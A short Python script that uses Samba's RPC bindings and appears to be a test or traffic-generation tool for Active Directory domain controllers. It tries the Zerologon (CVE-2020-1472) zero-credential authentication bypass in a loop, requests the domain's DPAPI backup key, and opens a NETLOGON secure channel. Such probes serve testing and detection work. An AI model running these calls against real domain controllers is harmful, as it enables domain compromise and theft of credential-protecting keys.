#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""rpc_scene.py - calls that no tool of Debian's makes, by Debian's python3-samba.

    rpc_scene.py zerologon CONTROLLER NAME TRIES       CVE-2020-1472's test: a secure channel with a credential of zeros; a domain
                                                       controller of today refuses it, and nothing is set
    rpc_scene.py backupkey CONTROLLER USER PASSWORD    the domain's DPAPI backup key is asked for
    rpc_scene.py channel BINDING COMPUTER PASSWORD     NETLOGON's secure channel, and a call within
"""
import sys

from samba import NTSTATUSError, WERRORError
from samba.credentials import Credentials, DONT_USE_KERBEROS
from samba.dcerpc import backupkey, misc, netlogon
from samba.ndr import ndr_pack
from samba.param import LoadParm


def zerologon(controller, name, tries):
    connection = netlogon.netlogon("ncacn_ip_tcp:%s" % controller, LoadParm())
    nothing = netlogon.netr_Credential()
    nothing.data = [0] * 8
    for _ in range(int(tries)):
        try:
            connection.netr_ServerReqChallenge("\\\\" + controller, name, nothing)
            connection.netr_ServerAuthenticate3("\\\\" + controller, name + "$", misc.SEC_CHAN_BDC, name, nothing, 0x212fffff)
        except NTSTATUSError:
            pass


def backup_key(controller, user, password):
    lp = LoadParm()
    credentials = Credentials()
    credentials.guess(lp)
    credentials.set_username(user)
    credentials.set_domain("CORP")
    credentials.set_password(password)
    credentials.set_kerberos_state(DONT_USE_KERBEROS)
    connection = backupkey.backupkey("ncacn_np:%s[seal]" % controller, lp, credentials)
    what = misc.GUID("018ff48a-eaba-40c6-8f6d-72370240e967")       # BACKUPKEY_RETRIEVE_BACKUP_KEY_GUID
    try:
        connection.bkrp_BackupKey(what, list(ndr_pack(what)), 0, 0)
    except (NTSTATUSError, WERRORError):
        pass


def channel(binding, computer, password):
    lp = LoadParm()
    credentials = Credentials()
    credentials.guess(lp)
    credentials.set_username(computer + "$")
    credentials.set_workstation(computer)
    credentials.set_domain("CORP")
    credentials.set_password(password)
    credentials.set_secure_channel_type(misc.SEC_CHAN_WKSTA)
    credentials.set_kerberos_state(DONT_USE_KERBEROS)
    connection = netlogon.netlogon(binding, lp, credentials)
    connection.netr_DsRGetDCNameEx(None, "corp.example", None, None, 0)
    connection.netr_LogonGetCapabilities("dc1", computer, credentials.new_client_authenticator(), None, 1)


def main():
    {"zerologon": zerologon, "backupkey": backup_key, "channel": channel}[sys.argv[1]](*sys.argv[2:])


if __name__ == "__main__":
    main()
